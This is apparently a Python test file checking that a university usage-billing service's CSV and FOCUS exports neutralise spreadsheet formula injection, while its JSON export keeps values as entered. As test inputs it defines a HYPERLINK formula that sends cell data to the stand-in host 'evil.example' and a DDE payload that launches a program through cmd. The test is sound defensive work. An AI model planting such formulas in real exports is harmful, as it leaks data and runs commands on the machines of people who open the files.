"""Issue 17 item 5: a unit name or chargeback code written as a spreadsheet formula reaches the bursar's CSV
as text, never as a live formula (OWASP CSV injection); JSON keeps the values as they are.

Through the real admin API: a department admin renames a course and creates a grant whose chargeback is a
formula, the ledger holds a closed month of usage for them, and the finance officer downloads the export.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from tests.admin_api.conftest import Env, env, settings  # noqa: F401  (fixtures)
from tests.usage.helpers import make_event, store_events
from usage.export import CSV_COLUMNS

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Invoice")'
CHARGEBACK = "+cmd|' /C calc'!A0"
FULLWIDTH = "\uff20SUM(1+1)"  # full-width @, which spreadsheets also read as a formula
MINUS = "-2+3"
# OWASP: = + - @ tab CR, and the full-width = + - @ spreadsheets also accept.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PERIOD = "2026-10"  # closed: the export is also stored and must come back the same


def _cells(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode())))


async def test_formula_text_is_neutralised_in_csv_and_raw_in_json(env: Env) -> None:  # noqa: F811
    admin = await env.login("csadmin")
    renamed = await admin.patch("/api/v1/units/cs101", json={"name": HYPERLINK})
    assert renamed.status_code == 200, renamed.text
    renamed = await admin.patch("/api/v1/units/cs102", json={"name": FULLWIDTH})
    assert renamed.status_code == 200, renamed.text
    renamed = await admin.patch("/api/v1/units/ada-research", json={"name": MINUS})
    assert renamed.status_code == 200, renamed.text

    when = datetime(2026, 10, 15, 12, tzinfo=UTC)
    base = ["ada-teaching", "ada", "cs", "eng", env.inst]
    store_events(env.state.settings.database_url, [
        make_event(env.inst, 1, unit_id="cs101", path=["cs101", *base], ended_at=when, request_id=f"{env.inst}-1",
                   model_id="llama-3.1-8b", provider_id="campus-vllm", cost_micro=1_000_000),
        make_event(env.inst, 2, unit_id="cs102", path=["cs102", *base], ended_at=when, request_id=f"{env.inst}-2",
                   model_id="llama-3.1-8b", provider_id="campus-vllm", cost_micro=2_000_000),
        make_event(env.inst, 3, unit_id="ada-research", path=["ada-research", "ada", "cs", "eng", env.inst],
                   ended_at=when, request_id=f"{env.inst}-3", model_id="gpt-4o", provider_id="openai",
                   purpose="research", cost_micro=3_000_000,
                   extras_paid=[{"extra_id": "nsf-123", "unit_id": "ada-research", "amount": 3_000_000,
                                 "chargeback": CHARGEBACK}]),
    ])  # fmt: skip

    bursar = await env.login("fin")
    first = await bursar.get("/api/v1/units/eng/export", params={"period": PERIOD, "format": "csv"})
    assert first.status_code == 200, first.text
    rows = _cells(first.content)
    names = {r["unit_id"]: r["unit_name"] for r in rows}
    assert names["cs101"] == "'" + HYPERLINK
    assert names["cs102"] == "'" + FULLWIDTH
    assert names["ada-research"] == "'" + MINUS
    assert [r["cost_object"] for r in rows if r["funding"] == "extra"] == ["'" + CHARGEBACK]
    text_columns = [c for c in CSV_COLUMNS if c not in
                    {"requests", "input_tokens", "output_tokens", "image_tokens", "cached_tokens", "cost"}]  # fmt: skip
    live = [(r["unit_id"], c, r[c]) for r in rows for c in text_columns if r[c].startswith(FORMULA_STARTS)]
    assert live == []
    assert sum(float(r["cost"]) for r in rows) == 6.0  # numbers stay numbers

    again = await bursar.get("/api/v1/units/eng/export", params={"period": PERIOD, "format": "csv"})
    assert again.content == first.content  # a closed month comes back byte for byte

    as_json = await bursar.get("/api/v1/units/eng/export", params={"period": PERIOD, "format": "json"})
    lines = as_json.json()["lines"]
    assert {line["unit_name"] for line in lines} == {HYPERLINK, FULLWIDTH, MINUS}
    assert [line["cost_object"] for line in lines if line["funding"] == "extra"] == [CHARGEBACK]

    # The FOCUS export is CSV too (the unit, institution and cost-object names reach it): no live formula.
    as_focus = await bursar.get("/api/v1/units/eng/export", params={"period": PERIOD, "format": "focus"})
    assert as_focus.status_code == 200, as_focus.text
    focus_rows = _cells(as_focus.content)
    assert focus_rows

    def number(v: str) -> bool:
        try:
            float(v)
        except ValueError:
            return False
        return True

    live = [
        (c, v) for r in focus_rows for c, v in r.items() if v.startswith(FORMULA_STARTS) and not number(v)
    ]
    assert live == []
    assert any(v == "'" + HYPERLINK for r in focus_rows for v in r.values())
